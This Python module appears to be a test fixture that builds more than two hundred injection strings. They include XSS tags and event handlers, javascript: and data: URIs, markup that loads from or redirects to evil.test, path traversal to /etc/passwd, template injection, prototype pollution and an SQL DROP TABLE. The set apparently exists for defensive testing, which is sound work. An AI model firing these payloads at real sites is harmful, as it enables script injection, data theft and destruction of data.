"""Texts that would be markup, script or an address if anything took them for that."""

from __future__ import annotations

from typing import Final

_SCRIPT: Final = "window.fleetspanTaken=1"
_TAGS: Final = (
    "<script>{js}</script>",
    "<script src=//evil.test/x.js></script>",
    "<img src=x onerror={js}>",
    "<img src=http://evil.test/x.png>",
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.{js}</script>'></iframe>",
    "<iframe src=javascript:{js}></iframe>",
    "<object data=http://evil.test/x></object>",
    "<embed src=http://evil.test/x>",
    "<link rel=stylesheet href=http://evil.test/x.css>",
    "<style>@import 'http://evil.test/x.css';</style>",
    "<style>*{{background:url(http://evil.test/x)}}</style>",
    "<base href=http://evil.test/>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
    "<form action=http://evil.test/><button autofocus onfocus={js}>x</button></form>",
    "<input autofocus onfocus={js}>",
    "<details open ontoggle={js}>x</details>",
    "<video><source onerror={js}></video>",
    "<audio src=x onerror={js}>",
    "<body onload={js}>",
    "<marquee onstart={js}>x</marquee>",
    "<math><mtext><img src=x onerror={js}></mtext></math>",
    "<template><img src=x onerror={js}></template>",
    "<a href=javascript:{js}>x</a>",
    "<a href='data:text/html,<script>{js}</script>'>x</a>",
    "<button formaction=javascript:{js}>x</button>",
    "<isindex action=javascript:{js}>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'></noscript>",
)
_AROUND: Final = (
    "{tag}",
    '">{tag}',
    "'>{tag}",
    "</title>{tag}",
    "</textarea></style></script>{tag}",
    "--><!-- -->{tag}",
)
_OTHERS: Final = (
    "javascript:{js}",
    "JaVaScRiPt:{js}",
    "java\tscript:{js}",
    "\x01javascript:{js}",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuZmxlZXRzcGFuVGFrZW49MTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//evil.test/x",
    "http://evil.test/x",
    "\\\\evil.test\\x",
    "/../../../etc/passwd",
    "../api/v1/sql?query=SELECT 1",
    "%2e%2e%2f%2e%2e%2fetc/passwd",
    "%3Cscript%3E{js}%3C/script%3E",
    "&lt;script&gt;{js}&lt;/script&gt;",
    "&#60;img src=x onerror={js}&#62;",
    "\u202e<img src=x onerror={js}>",
    "\ufeff<script>{js}</script>",
    "\u2028{js}//",
    "${{{js}}}",
    "`${{{js}}}`",
    "{{{{constructor.constructor('{js}')()}}}}",
    "');{js};//",
    '");{js};//',
    "\\');{js};//",
    "';{js};'",
    "__proto__",
    "constructor",
    "prototype.polluted",
    "toString",
    "hasOwnProperty",
    "[object Object]",
    "null",
    "undefined",
    "NaN",
    "x" * 5000,
    "🚀" * 200,
    "\n\r\n\t",
    "a\x00b",
    '{{"__proto__": {{"polluted": true}}}}',
    "'; DROP TABLE runs; --",
)


def payloads() -> list[str]:
    """Return more than two hundred of them, each once."""
    found = [
        around.format(tag=tag.format(js=_SCRIPT)) for around in _AROUND for tag in _TAGS
    ]
    return [*found, *(each.format(js=_SCRIPT) for each in _OTHERS)]
